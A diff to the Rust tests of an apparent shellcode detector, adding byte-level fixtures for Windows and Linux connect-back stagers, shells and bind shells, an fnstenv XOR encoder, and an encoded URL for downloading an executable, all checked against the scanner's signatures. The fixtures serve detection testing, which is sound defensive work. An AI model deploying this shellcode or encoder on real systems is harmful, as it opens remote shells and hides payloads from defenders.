@@ -554,6 +554,14 @@ mod tests {
             cat(&[b"\xfc\xe8\x82\x00\x00\x00\x60\x89\xe5", b"\x68", &IP, b"\x68\x02\x00", &PORT, connect, tail])
         }
 
+        /// The later layout: the socket made between the address pushed and the connect.
+        fn win_stager_socket_between() -> Vec<u8> {
+            let socket = b"\x50\x50\x50\x50\x40\x50\x40\x50\x68\xea\x0f\xdf\xe0\xff\xd5\x97";
+            let connect = b"\x6a\x10\x56\x57\x68\x99\xa5\x74\x61\xff\xd5\x85\xc0\x74\x0a\xff\x4e\x08\x75\xec";
+            let recv = b"\x6a\x00\x6a\x04\x56\x57\x68\x02\xd9\xc8\x5f\xff\xd5";
+            cat(&[b"\x6a\x0a\x68", &IP, b"\x68\x02\x00", &PORT, b"\x89\xe6", socket, connect, recv])
+        }
+
         fn win_stager() -> Vec<u8> {
             win_connect(b"\x85\xc0\x74\x0c\x6a\x00\x6a\x04\x56\x57\x68\x02\xd9\xc8\x5f\xff\xd5\x8b\x36")
         }
@@ -579,6 +587,17 @@ mod tests {
                 b"\x68\x02\x00",
                 &PORT,
                 b"\x89\xe1\x6a\x66\x58\x50\x51\x57\x89\xe1\x43\xcd\x80\xb2\x07\xb9\x00\x10\x00\x00\x89\xe3\xc1\xeb\x0c\xc1\xe3\x0c\xb0\x7d\xcd\x80\x5b\x89\xe1\x99\xb6\x0c\xb0\x03\xcd\x80\xff\xe1",
+            ])
+        }
+
+        /// The port and AF_INET pushed as two words, "n/sh" "//bi" pushed.
+        fn linux_x86_shell_words() -> Vec<u8> {
+            cat(&[
+                b"\x31\xdb\xf7\xe3\x53\x43\x53\x6a\x02\x89\xe1\xb0\x66\xcd\x80\x93\x59\xb0\x3f\xcd\x80\x49\x79\xf9\x68",
+                &IP,
+                b"\x66\x68",
+                &PORT,
+                b"\x66\x6a\x02\x89\xe1\xb0\x66\x50\x51\x53\xb3\x03\x89\xe1\xcd\x80\x52\x68\x6e\x2f\x73\x68\x68\x2f\x2f\x62\x69\x89\xe3\x52\x53\x89\xe1\xb0\x0b\xcd\x80",
             ])
         }
 
@@ -618,22 +637,17 @@ mod tests {
             ])
         }
 
-        /// fnstenv GetPC, dword key, negative count.
-        fn fnstenv(inner: &[u8], key: [u8; 4]) -> Vec<u8> {
+        /// fnstenv GetPC, dword key, the count as `sub ecx, -N` or as `push N; pop ecx`.
+        fn fnstenv(inner: &[u8], key: [u8; 4], push_pop: bool) -> Vec<u8> {
             let mut inner = inner.to_vec();
             while !inner.len().is_multiple_of(4) {
                 inner.push(0x90);
             }
             let body: Vec<u8> = inner.iter().enumerate().map(|(i, b)| b ^ key[i % 4]).collect();
-            let n = (256 - inner.len() / 4) as u8;
-            cat(&[
-                b"\x31\xc9\x83\xe9",
-                &[n],
-                b"\xd9\xee\xd9\x74\x24\xf4\x5b\x81\x73\x13",
-                &key,
-                b"\x83\xeb\xfc\xe2\xf4",
-                &body,
-            ])
+            let n = inner.len() / 4;
+            let count =
+                if push_pop { vec![0x6a, n as u8, 0x59] } else { vec![0x31, 0xc9, 0x83, 0xe9, (256 - n) as u8] };
+            cat(&[&count, b"\xd9\xee\xd9\x74\x24\xf4\x5b\x81\x73\x13", &key, b"\x83\xeb\xfc\xe2\xf4", &body])
         }
 
         fn check(found: Option<Shellcode>, kind: &str, sig: &str) -> Shellcode {
@@ -646,8 +660,10 @@ mod tests {
         fn every_family_is_recognised() {
             let c = shipped();
             let host = Some(std::net::IpAddr::from(IP));
-            let cases: [(Vec<u8>, &str, &str); 5] = [
+            let cases: [(Vec<u8>, &str, &str); 7] = [
                 (win_stager(), "connectbackfiletransfer", "connectbackfiletransfer::win_stager_recv"),
+                (win_stager_socket_between(), "connectbackfiletransfer", "connectbackfiletransfer::win_stager_recv"),
+                (linux_x86_shell_words(), "connectbackshell", "connectbackshell::linux_x86_connect_sh"),
                 (linux_x86_stager(), "connectbackfiletransfer", "connectbackfiletransfer::linux_x86_stager_read"),
                 (win_shell(), "connectbackshell", "connectbackshell::win_connect_cmd"),
                 (linux_x86_shell(), "connectbackshell", "connectbackshell::linux_x86_connect_sh"),
@@ -661,6 +677,7 @@ mod tests {
             let bind = [
                 (b"\x53\x68\x02\x00\x11\x5c\x89\xe6\x6a\x10\x56\x57\x68\xc2\xdb\x37\x67\xff\xd5".to_vec(), "bindshell::win_bind"),
                 (b"\x31\xdb\xf7\xe3\x53\x43\x53\x6a\x02\x89\xe1\xb0\x66\xcd\x80\x5b\x5e\x52\x68\x02\x00\x11\x5c\x6a\x10\x51\x50\x89\xe1\x6a\x66\x58\xcd\x80".to_vec(), "bindshell::linux_x86_bind"),
+                (b"\x31\xdb\xf7\xe3\x53\x43\x53\x6a\x02\x89\xe1\xb0\x66\xcd\x80\x5b\x5e\x52\x66\x68\x11\x5c\x66\x6a\x02\x6a\x10\x51\x50\x89\xe1\x6a\x66\x58\xcd\x80".to_vec(), "bindshell::linux_x86_bind"),
                 (b"\x6a\x29\x58\x99\x6a\x02\x5f\x6a\x01\x5e\x0f\x05\x48\x97\x52\xc7\x04\x24\x02\x00\x11\x5c\x48\x89\xe6\x6a\x10\x5a\x6a\x31\x58\x0f\x05".to_vec(), "bindshell::linux_x64_bind"),
             ];
             for (code, sig) in &bind {
@@ -702,9 +719,15 @@ mod tests {
             );
             assert_eq!(s.decoders, ["xor::call_pop_byte (key 0x5a)"]);
             // Two layers: a dword XOR around a byte XOR.
-            let twice = fnstenv(&jmp_call_pop(&win_shell(), 0x3c), [0xde, 0xad, 0xbe, 0xef]);
+            let twice = fnstenv(&jmp_call_pop(&win_shell(), 0x3c), [0xde, 0xad, 0xbe, 0xef], false);
             let s = check(scan(&c, &twice), "connectbackshell", "connectbackshell::win_connect_cmd");
             assert_eq!(s.decoders, ["xor::fnstenv_dword (key 0xdeadbeef)", "xor::jmp_call_pop_byte (key 0x3c)"]);
+            let s = check(
+                scan(&c, &fnstenv(&win_stager_socket_between(), [1, 2, 3, 4], true)),
+                "connectbackfiletransfer",
+                "connectbackfiletransfer::win_stager_recv",
+            );
+            assert_eq!((s.host, s.port, s.decoders.len()), (Some(IP.into()), Some(4444), 1));
             // An encoded URL: the decoder's result, then the URL.
             let url = b"\x90\x90http://198.51.100.7/x.exe\x00\x90";
             let s = check(scan(&c, &jmp_call_pop(url, 0x21)), "url", "url::nul_terminated");
